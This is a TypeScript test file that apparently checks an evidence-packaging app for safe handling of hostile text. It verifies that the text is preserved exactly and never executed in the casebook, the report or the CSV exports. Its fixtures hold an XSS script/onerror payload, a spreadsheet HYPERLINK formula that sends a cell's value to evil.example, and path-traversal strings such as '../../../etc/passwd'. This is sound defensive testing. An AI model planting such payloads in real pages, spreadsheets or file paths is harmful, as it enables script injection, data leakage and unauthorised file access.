// Words made to break things: kept exactly, shown inertly, in the casebook, the report and the tables.
import { spawnSync } from 'node:child_process';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { addOfflineEntry, capturePost, makePackage, openCasebook } from '../../support/flows.ts';
import { launched } from '../../support/launched.ts';
import { openPackage, type PackageContent } from '../../support/package-content.ts';
import { stockToolsObject, verifyPackage } from '../../support/recipient-tools.ts';
import { tempFolder } from '../../support/temp-folder.ts';
import { words } from '../../support/words.ts';
import { wordsPage } from '../../support/words-page.ts';

/** Each stands in a post of its own; set by script, since HTML cannot carry all of them. */
const texts = {
  markup:
    '</script><script>document.title="run"</script><img src=x onerror="document.title=\'run\'">&lt;b&gt; ]]> <!-- -->',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click") and +1 and -1 and @SUM(A1)',
  surrogates: `lone \uD83D high, \uDE00 low, whole 😀, \uFFFE and \uFFFF`,
  controls:
    'nul \u0000, bell \u0007, escape \u001b[31m, line\u2028separator, \u202Eright to left\u202C, zero\u200Bwidth, BOM \uFEFF end',
  emoji: '👩🏽‍🚒🏳️‍⚧️🇺🇦👨‍👩‍👧‍👦 1️⃣ ☠︎',
  rightToLeft: 'هذا ليس النهاية، سأعود غدًا في الساعة 6:00 (مساءً). עברית גם כן.',
  paths: '../../../etc/passwd C:\\CON.txt notes.zip/../x %2e%2e%2f',
  // five megabytes of them: tests/hard/capture-hostile.test.ts
  long: `${'long words '.repeat(40_000)}end`,
} satisfies Record<string, string>;

type Name = keyof typeof texts;
const names = Object.keys(texts) as Name[];
const at = (name: Name): string => `2026-11-${String(10 + names.indexOf(name)).padStart(2, '0')}T20:00:00.000Z`;
const shown = (name: Name) => wordsPage(texts[name], at(name), name === 'long');
const pages = new Map(names.map((name) => [shown(name).address, shown(name).html] as const));

const daybook = launched({
  answer: (url) => {
    const body = pages.get(url.href);
    return body === undefined ? null : { status: 200, contentType: 'text/html; charset=utf-8', body };
  },
});
const folder = tempFolder();

describe('words made to break things', () => {
  let casebook: Page;
  let zip: string;
  let content: PackageContent;

  beforeAll(async () => {
    let page: Page | undefined;
    for (const name of names) {
      await page?.close();
      page = await daybook().open(shown(name).address);
      await capturePost(daybook(), page, page.locator('article'));
    }
    if (page === undefined) throw new Error('no page');
    casebook = await openCasebook(daybook(), page);
    await addOfflineEntry(casebook, {
      day: '2026-11-20',
      clock: '18:05',
      kind: 'kind_letter',
      where: texts.formula,
      who: texts.paths,
      what: `${texts.markup}\n${texts.rightToLeft}\n${texts.emoji}`,
    });
    zip = join(folder, 'hostile.zip');
    await (await makePackage(casebook)).saveAs(zip);
    content = await openPackage(zip);
  }, 240_000);

  it('makes a package that checks out', () => {
    const { result } = verifyPackage(zip);
    expect(result.checks.filter((check) => !check.ok)).toEqual([]);
    expect(stockToolsObject(zip)).toEqual([]);
  });

  it.each(names)('keeps "%s" exactly', async (name) => {
    const folderName = content.paths
      .find((path) => path.includes(`/${String(names.indexOf(name) + 1).padStart(4, '0')}-`))
      ?.split('/')[2];
    const capture = await content.json<Record<string, unknown>>(`data/exhibits/${folderName}/capture.json`);
    const field = findText(capture);
    const kept = field.utf16le === undefined ? field.value : Buffer.from(field.utf16le, 'base64').toString('utf16le');
    expect(kept === texts[name] || { kept: kept.slice(0, 300), length: kept.length }).toBe(true);
    expect(field.value.isWellFormed()).toBe(true);
  });

  it('runs nothing in the casebook', async () => {
    await casebook
      .getByRole('link', { name: words('nav_entries') })
      .first()
      .click();
    await casebook.locator('main a[href*="#/entry/"]').first().waitFor();
    const links = await casebook
      .locator('main a[href*="#/entry/"]')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
    expect(links.length).toBe(names.length + 1);
    for (const link of links) {
      await casebook.goto(link);
      const show = casebook.getByRole('button', { name: words('words_show') }).first();
      await show.click();
      expect(await casebook.title()).toContain('Daybook');
    }
    expect(await casebook.locator('main img[src="x"], main script').count()).toBe(0);
  });

  it('runs nothing in the report, and the tables hold no formula', async () => {
    const unpacked = join(folder, 'unpacked');
    spawnSync('unzip', ['-q', zip, '-d', unpacked]);
    const report = await daybook().open(`file://${unpacked}/${readdirSync(unpacked)[0]}/data/report.html`);
    expect(await report.title()).not.toBe('run');
    expect(await report.locator('script, img[src="x"], [onerror]').count()).toBe(0);
    // Whatever the names and words are, nobody has to scroll sideways on a telephone.
    await report.setViewportSize({ width: 320, height: 640 });
    await report.addStyleTag({ content: '.entry, .annex { content-visibility: visible !important }' });
    expect(await report.evaluate(() => document.documentElement.scrollWidth)).toBe(320);
    await report.close();
    for (const table of ['data/timeline.csv', 'data/preservation.csv', 'data/left-out.csv']) {
      const cells = csvCells(await content.text(table));
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
  });

  it('has file names that every system takes', () => {
    expect(
      content.paths.filter((path) => !/^[A-Za-z0-9._\-/]+$/.test(path) || path.includes('..') || path.length > 100),
    ).toEqual([]);
  });
});

interface TextField {
  value: string;
  utf16le?: string;
}

/** The reading's `text` field, wherever the capture's file has it. */
function findText(node: unknown): TextField {
  const queue: unknown[] = [node];
  for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
    if (typeof next !== 'object' || next === null) continue;
    const reading = (next as { reading?: { text?: TextField } }).reading;
    if (reading?.text !== undefined) return reading.text;
    queue.push(...Object.values(next));
  }
  throw new Error('the capture has no text');
}

/** Cells of a CSV, quotes undone. */
function csvCells(csv: string): string[] {
  const cells: string[] = [];
  for (const [, quoted, plain] of csv
    .replace(/^\uFEFF/, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r?\n|$)/g)) {
    cells.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
  }
  return cells;
}
